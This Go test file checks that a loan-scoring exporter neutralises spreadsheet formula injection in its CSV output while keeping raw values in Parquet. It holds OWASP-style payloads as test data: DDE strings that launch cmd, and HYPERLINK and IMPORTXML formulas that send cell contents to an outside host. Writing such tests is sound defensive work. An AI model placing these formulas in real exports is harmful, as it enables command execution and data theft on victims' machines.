package scorer

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/parquet-go/parquet-go"
)

// formulas are what spreadsheets run, after the lists of
// https://owasp.org/www-community/attacks/CSV_Injection.
func formulas() []string {
	return []string{
		"=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.com?x=\"&A1,\"ok\")", "=IMPORTXML(CONCAT(\"http://\",A1),\"//a\")",
		"+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1",
		"＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=", "-", "=\"a\nb\"", "+49 30 1234", "=DDE(\"cmd\";\"/C calc\";\"x\")",
	}
}

// failure 53: no exported cell begins a formula; the Parquet file has the cells
// as they were given, and numbers stay numbers.
func TestFormulaInjection(t *testing.T) {
	t.Parallel()
	var file bytes.Buffer
	w := csv.NewWriter(&file)
	row := func(cells ...string) {
		if err := w.Write(cells); err != nil {
			t.Fatal(err)
		}
	}
	row("=note()", "TotalIncome", "LoanAmount", "Credit_History", "Property_Area")
	for _, f := range formulas() {
		row(f, "-0", "128", "1", "Urban")
		row(f, f, "128", "1", "Urban") // rejected
	}
	w.Flush()
	var out, rejects bytes.Buffer
	tally, err := ScoreFile(t.Context(), testScorer(t), textSource(file.String()), &out, FileOptions{DecidedAt: decidedAt(), Rejects: &rejects})
	if err != nil || tally.DecidedRows() != int64(len(formulas())) {
		t.Fatalf("%+v, %v", tally, err)
	}
	var exported bytes.Buffer
	e := csv.NewWriter(&exported)
	if _, err := exportPart(e, out.Bytes(), true, nil); err != nil {
		t.Fatal(err)
	}
	e.Flush()
	for name, text := range map[string]string{"results": exported.String(), "rejects": rejects.String()} {
		for _, cells := range readCSV(t, text) {
			for i, cell := range cells {
				if cell != "" && strings.ContainsRune("=+-@\t\r\n\x00＝＋－＠", []rune(cell)[0]) && cell != "-0" {
					t.Errorf("%s: cell %d is %q", name, i, cell)
				}
			}
		}
	}
	if got := readCSV(t, exported.String())[1][1]; got != "-0" {
		t.Errorf("a number is exported as %q", got)
	}
	part, err := parquet.OpenFile(bytes.NewReader(out.Bytes()), int64(out.Len()))
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	err = eachRow(part, func(row parquet.Row) error {
		// encoding/csv writes CRLF within a cell as it is, and so it is read.
		if got := string(row[0].ByteArray()); got != formulas()[n] {
			t.Errorf("the Parquet file has %q, want %q", got, formulas()[n])
		}
		n++
		return nil
	})
	if err != nil || n != len(formulas()) {
		t.Errorf("%d rows, %v", n, err)
	}
}
